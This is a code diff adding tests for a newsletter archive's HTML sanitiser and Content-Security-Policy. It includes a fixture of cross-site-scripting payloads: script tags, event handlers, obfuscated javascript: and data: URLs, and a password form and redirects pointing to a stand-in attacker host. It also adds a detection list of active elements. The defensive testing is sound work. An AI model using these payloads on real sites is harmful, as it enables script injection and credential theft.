@@ -5,8 +5,10 @@ kept out), and the headers and markup of what it serves.
 
 import email
 import email.policy
+import html.parser
 import os
 import re
+import sqlite3
 import urllib.error
 import urllib.request
 import xml.etree.ElementTree
@@ -14,6 +16,70 @@ import xml.etree.ElementTree
 from test_cli import CommuniqueTestCase
 
 ATOM = {"atom": "http://www.w3.org/2005/Atom"}
+
+# A body from a hostile feed item or paste: every way markup could act that the sanitiser
+# must take out.
+HOSTILE_BODY = """<p>Visible words</p>
+<script>alert('script')</script>
+<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>
+<img src=x onerror="alert('img')">
+<img src="https://example.org/photo.png" alt="Photo" onload="alert('load')">
+<a href="javascript:alert('a')">plain</a>
+<a href="JaVaScRiPt:alert('b')">mixed case</a>
+<a href="jav&#x09;ascript:alert('c')">entity tab</a>
+<a href=" &#x0A;javascript:alert('d')">leading space</a>
+<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>
+<a href="https://example.org/kept" onmouseover="alert('e')">kept link</a>
+<img src="data:image/svg+xml,<svg onload=alert(1)>">
+<svg><script>alert('svg')</script></svg>
+<form action="https://evil.example/steal"><input name="password"><button>Sign in</button></form>
+<base href="https://evil.example/">
+<meta http-equiv="refresh" content="0;url=https://evil.example/">
+<iframe src="https://evil.example/"></iframe>
+<object data="https://evil.example/x.swf"></object>
+<div style="background:url(javascript:alert(1))"><b>unclosed <i>nested
+<!-- <script>alert('comment')</script> -->
+"""
+
+# (The letter template's own <meta> elements name a charset and colour schemes; a <meta>
+# with http-equiv, which can redirect, is looked for as an attribute.)
+ACTIVE_ELEMENTS = {"script", "style", "form", "input", "button", "base", "iframe",
+                   "object", "embed", "svg", "link", "frame", "template"}
+URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "srcset", "poster", "xlink:href"}
+POLICY = ["default-src 'none'", "sandbox", "form-action 'none'", "base-uri 'none'",
+          "frame-ancestors 'none'"]
+
+
+class Markup(html.parser.HTMLParser):
+    """What a browser would find in a page: elements, attributes and URLs."""
+
+    def __init__(self):
+        super().__init__(convert_charrefs=True)
+        self.elements = []
+        self.attributes = []  # (element, name, value)
+
+    def handle_starttag(self, tag, attrs):
+        self.elements.append(tag)
+        self.attributes += [(tag, name, value or "") for name, value in attrs]
+
+    handle_startendtag = handle_starttag
+
+    def problems(self):
+        found = [f"<{tag}>" for tag in self.elements if tag in ACTIVE_ELEMENTS]
+        for tag, name, value in self.attributes:
+            url = re.sub(r"[\x00-\x20]", "", value).lower()
+            if name.startswith("on") or name == "http-equiv":
+                found.append(f"{tag} {name}")
+            elif name in URL_ATTRIBUTES and url.startswith(("javascript:", "data:", "vbscript:")):
+                found.append(f"{tag} {name}={value}")
+        return found
+
+
+def markup_of(page):
+    parser = Markup()
+    parser.feed(page)
+    parser.close()
+    return parser
 
 
 class ArchiveTest(CommuniqueTestCase):
@@ -90,6 +156,76 @@ class ArchiveTest(CommuniqueTestCase):
         missing = self.run_cli("issues", "update", "999", "--archive", check=False)
         self.assertEqual(missing.returncode, 1)
         self.assertIn("there is no issue 999", missing.stderr)
+
+
+    def check_hostile_page(self, page, headers):
+        markup = markup_of(page)
+        self.assertEqual(markup.problems(), [], page)
+        for directive in POLICY:
+            self.assertIn(directive, headers["Content-Security-Policy"])
+        self.assertIn("Visible words", page)
+        self.assertIn('<a href="https://example.org/kept">kept link</a>', page)
+        self.assertIn('<img src="https://example.org/photo.png" alt="Photo">', page)
+        self.assertIn("<b>unclosed <i>nested", page)
+        self.assertNotIn("evil.example", page)
+        self.assertNotIn("alert(", page)
+
+    def test_a_hostile_html_body_is_stored_sent_and_served_without_anything_that_acts(self):
+        issue, path = self.send_issue("Feed item", ["Public news"], "--format", "html",
+                                      body=HOSTILE_BODY, suffix=".html")
+        # Stored sanitised: what `issues show` (and the API) give is the safe body.
+        stored = self.run_cli("issues", "show", issue).stdout
+        self.assertIn("Visible words", stored)
+        self.assertNotIn("<script", stored.lower())
+        self.assertNotIn("javascript", stored.lower())
+        self.assertNotIn("onerror", stored)
+        # The letter carries the same markup.
+        raw = self.run_cli("render", issue, "--to", "ann@example.org").stdout
+        message = email.message_from_string(raw, policy=email.policy.default)
+        letter = next(p for p in message.walk() if p.get_content_type() == "text/html")
+        self.assertEqual(markup_of(letter.get_content()).problems(), [])
+        self.assertNotIn("alert(", letter.get_content())
+        _, address = self.start_server()
+        status, headers, page = self.get(address, path)
+        self.assertEqual(status, 200)
+        self.check_hostile_page(page, headers)
+
+    def test_a_body_stored_before_sanitising_is_sanitised_when_served(self):
+        issue, path = self.send_issue("Old row", ["Public news"], "--format", "html",
+                                      body="<p>placeholder</p>", suffix=".html")
+        # A row written by an earlier version, which stored HTML as it came.
+        with sqlite3.connect(os.path.join(self.data, "communique.db")) as db:
+            db.execute("UPDATE issue_sections SET body = ? WHERE issue_id = ?",
+                       (HOSTILE_BODY, int(issue)))
+        db.close()
+        _, address = self.start_server()
+        status, headers, page = self.get(address, path)
+        self.assertEqual(status, 200)
+        self.check_hostile_page(page, headers)
+
+    def test_the_index_is_styled_by_its_stylesheet_alone(self):
+        self.send_issue("Styled issue", ["Public news"])
+        _, address = self.start_server()
+        status, headers, index = self.get(address, "/archive")
+        self.assertEqual(status, 200)
+        policy = headers["Content-Security-Policy"]
+        self.assertIn("style-src 'self'", policy)
+        self.assertNotIn("unsafe-inline", policy)
+        markup = markup_of(index)
+        self.assertNotIn("style", markup.elements, "a <style> element the policy blocks")
+        inline = [(tag, value) for tag, name, value in markup.attributes if name == "style"]
+        self.assertEqual(inline, [], "style attributes the policy blocks")
+        # What the index's classes need is in the stylesheet it links.
+        sheets = [value for tag, name, value in markup.attributes
+                  if tag == "link" and name == "href"]
+        self.assertEqual(sheets, ["/assets/public.css"])
+        status, _, css = self.get(address, sheets[0])
+        self.assertEqual(status, 200)
+        classes = {value for _, name, value in markup.attributes if name == "class"}
+        self.assertIn("issues", classes)
+        for name in classes:
+            self.assertIn(f".{name}", css)
+        self.assertIn("ul.issues{list-style:none;padding:0}", css)
 
 
 if __name__ == "__main__":
